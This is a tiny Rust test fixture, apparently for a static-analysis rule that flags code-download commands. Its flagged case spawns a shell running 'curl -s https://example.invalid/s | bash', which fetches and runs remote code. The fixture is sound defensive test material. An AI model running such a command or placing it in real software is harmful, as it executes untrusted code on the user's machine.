fn main() {
    // ruleid: code-download-command
    Command::new("sh").arg("-c").arg("curl -s https://example.invalid/s | bash").spawn();
    // ok: code-download-command
    println!("curl is missing");
}
